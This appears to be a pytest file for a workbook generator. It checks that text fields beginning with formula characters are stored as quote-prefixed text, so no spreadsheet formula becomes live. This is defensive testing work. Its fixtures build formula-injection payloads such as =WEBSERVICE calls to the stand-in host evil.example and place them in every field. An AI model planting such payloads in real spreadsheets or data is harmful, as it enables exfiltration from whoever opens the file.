"""Workbooks and hostile texts: nothing the data holds becomes live in a workbook the tool writes.

* Every text of the data that lands in a form or an appraisal workbook (names, the province, the contact,
  the index set's title and basis, meanings, units, labels, evidence, notes) begins here with ``=``, ``+``,
  ``-``, ``@`` or ``#``: each is a text cell with the quote prefix, no sheet holds a formula, and collecting
  the untouched workbooks gives back exactly the data, with no complaint.
"""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from generator.forms.collect import collect_forms
from generator.forms.layout import APPRAISAL_SHEET, GUIDE_SHEET, LISTS_SHEET, SELF_SHEET
from generator.load import load_dataset
from generator.packaging import needs_quote_prefix

from .helpers import write_edition, write_framework
from .test_forms import INDICATORS, INPUTS, templates


def live(tag: str, prefix: str = "=") -> str:
    """A text a spreadsheet would run: a call to an address, tagged to find where it lands."""
    return f'{prefix}WEBSERVICE("http://evil.example/?{tag}")'


# --------------------------------------------------------------------------- a year whose every text is hostile

PLACES = {  # tag → (sheets of a self form, sheets of the appraisal workbook) where the text must land
    "province": ({GUIDE_SHEET}, {GUIDE_SHEET}),
    "contact": ({GUIDE_SHEET}, {GUIDE_SHEET}),
    "framework": ({GUIDE_SHEET}, {GUIDE_SHEET}),
    "basis": ({GUIDE_SHEET}, {GUIDE_SHEET}),
    "unit": ({GUIDE_SHEET}, {APPRAISAL_SHEET}),
    "indicator": ({SELF_SHEET}, {APPRAISAL_SHEET}),
    "meaning": ({SELF_SHEET}, {APPRAISAL_SHEET}),
    "measure": ({SELF_SHEET}, set()),  # an input's unit opens the «how» cell of a self form
    "label": ({SELF_SHEET, LISTS_SHEET}, {APPRAISAL_SHEET, LISTS_SHEET}),
    "yes": ({SELF_SHEET, LISTS_SHEET}, {APPRAISAL_SHEET, LISTS_SHEET}),
    "title": ({SELF_SHEET}, {APPRAISAL_SHEET}),
    "url": ({SELF_SHEET}, set()),
    "note": (set(), {APPRAISAL_SHEET}),
}


def hostile_year(root: Path) -> Path:
    """The tiny commune year of test_forms.py with every text a workbook shows replaced by a live one."""
    indicators = [dict(r, name=live(f"indicator-{r['id']}")) for r in INDICATORS]
    labels = {
        "truong_ban": f"nguoi_dung_dau: {live('label', '+')}; cap_pho: {live('label-2', '-')}; khong: #N/A",
        "da_ban_hanh": f"co: {live('yes', '@')}; khong: {live('yes-no')}",
    }
    inputs = [
        dict(i, meaning=live(f"meaning-{i['name']}", "+"), **({"unit": live("measure", "@")} if i.get("unit") else {}), **({"labels": labels[i["name"]]} if i["name"] in labels else {}))
        for i in INPUTS
    ]
    folder = write_framework(root / "frameworks" / "t-xa", indicators, inputs)
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    descriptor["title"] = live("framework")
    descriptor["dti"]["legal_basis"]["document"] = live("basis", "-")
    (folder / "datapackage.json").write_text(json.dumps(descriptor, ensure_ascii=False, indent=2), encoding="utf-8")
    units = [{"id": "xa-a", "name": live("unit"), "type": "commune"}, {"id": "xa-b", "name": live("unit-b", "@"), "type": "commune"}]
    values = {("1.1", "truong_ban"): "cap_pho", ("1.2", "da_ban_hanh"): "có", ("1.3", "a"): "8", ("1.3", "b"): "10",
              ("2.1", "kinh_phi"): "75.5", ("2.2", "ty_le"): "85", ("2.3", "diem"): "4"}
    inputs_rows = [{"unit_id": u, "indicator_id": i, "input": n, "self_value": v} for u in ("xa-a", "xa-b") for (i, n), v in values.items()]
    evidence = [
        {"unit_id": "xa-a", "indicator_id": "1.3", "title": live("title"), "url": live("url", "=")},
        {"unit_id": "xa-a", "indicator_id": "1.3", "title": "#N/A", "url": "+84 200 555 1234"},
        {"unit_id": "xa-b", "indicator_id": "2.1", "title": "-1+1", "url": "@example"},
    ]
    assessments = [{"unit_id": "xa-a", "indicator_id": "2.3", "appraised_score": "3", "note": live("note", "=") + "\n" + live("note-line-2", "@")}]
    year = write_edition(root / "2024", 2024, {"commune": "t-xa"}, units, inputs_rows, assessments, evidence)
    descriptor = json.loads((year / "datapackage.json").read_text(encoding="utf-8"))
    descriptor["dti"]["province"] = live("province")
    descriptor["dti"]["forms"] = {"deadline": "2025-01-15", "contact": live("contact", "@")}
    (year / "datapackage.json").write_text(json.dumps(descriptor, ensure_ascii=False, indent=2), encoding="utf-8")
    return root


def formula_parts(path: Path) -> dict[str, int]:
    """Every part of the zip holding a formula element (``<f>``) or an error cell, with how many."""
    found = {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                count = len(re.findall(rb'<(?:\w+:)?f[\s>/]|t="e"', archive.read(name)))
                if count:
                    found[name] = count
    return found


def texts(path: Path) -> list[tuple[str, str, object]]:
    """(sheet, cell, openpyxl cell) of every cell holding something."""
    wb = load_workbook(path)
    return [(ws.title, c.coordinate, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def data_of(data: Path) -> dict[str, set]:
    """The year as loaded: what a round trip must give back."""
    dataset, _ = load_dataset(data)
    edition = dataset.editions[2024]
    return {
        "inputs": {(v.unit_id, v.indicator_id, v.input, v.self_value, v.appraised_value) for v in edition.inputs},
        "assessments": {(a.unit_id, a.indicator_id, a.self_score, a.not_evaluated, a.note, a.appraised_score) for a in edition.assessments},
        "evidence": {(e.unit_id, e.indicator_id, e.title, e.url) for e in edition.evidence},
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-forms")
    data = hostile_year(root / "data")
    before = data_of(data)
    forms = templates(data, root / "phieu")
    appraisal = templates(data, root / "tham-dinh", appraisal=True)
    return {"root": root, "data": data, "before": before, "forms": forms, "appraisal": appraisal}


def test_no_text_of_the_data_is_a_formula_in_any_workbook_written(hostile):
    for path in hostile["forms"] + hostile["appraisal"]:
        assert formula_parts(path) == {}, path.name
        for sheet, cell, c in texts(path):
            if isinstance(c.value, str):
                assert c.data_type == "s", (path.name, sheet, cell, c.value)
                if needs_quote_prefix(c.value):
                    assert c.quotePrefix, (path.name, sheet, cell, c.value)


def test_every_place_a_text_of_the_data_lands_was_tried(hostile):
    """The hostile texts reach every sheet they can reach, at the start of a cell (where a spreadsheet would
    take them for a formula): the test above covers every place."""
    for index, path in ((0, hostile["forms"][0]), (1, hostile["appraisal"][0])):
        landed = {tag: set() for tag in PLACES}
        for sheet, _, c in texts(path):
            if isinstance(c.value, str):
                for tag in PLACES:
                    if re.match(rf'[=+\-@]WEBSERVICE\("http://evil\.example/\?{tag}[")-]', c.value) or (tag == "label" and c.value == "#N/A"):
                        landed[tag].add(sheet)
        assert {tag: sheets for tag, sheets in landed.items()} == {tag: places[index] for tag, places in PLACES.items()}, path.name


def test_untouched_hostile_forms_are_collected_back_exactly_without_complaint(hostile, tmp_path):
    import shutil

    data = tmp_path / "data"
    shutil.copytree(hostile["data"], data)
    report, written = collect_forms(data, 2024, hostile["forms"][0].parent)
    assert report.ok and written, [str(i) for i in report.errors]
    # only what validation says of these data themselves: addresses that are not web links
    assert {i.code for i in report.warnings} == {"not-a-link"}
    assert data_of(data) == hostile["before"]
    report, written = collect_forms(data, 2024, hostile["appraisal"][0].parent, appraisal=True)
    assert report.ok and written, [str(i) for i in report.errors]
    assert {i.code for i in report.warnings} <= {"not-a-link"}
    assert data_of(data) == hostile["before"]


def test_the_open_data_workbooks_use_the_same_question():
    """One helper decides for every workbook the tool writes (the open-data workbooks and the forms)."""
    from generator import opendata_xlsx
    from generator.forms import sheets

    assert opendata_xlsx.needs_quote_prefix is needs_quote_prefix is sheets.needs_quote_prefix
    assert [t for t in ("=1+1", "+84", "-x", "@a", "\tx", "\rx", "#N/A") if not needs_quote_prefix(t)] == []
    assert [t for t in ("-5", "12.5", "Xã An", "a=b", "") if needs_quote_prefix(t)] == []
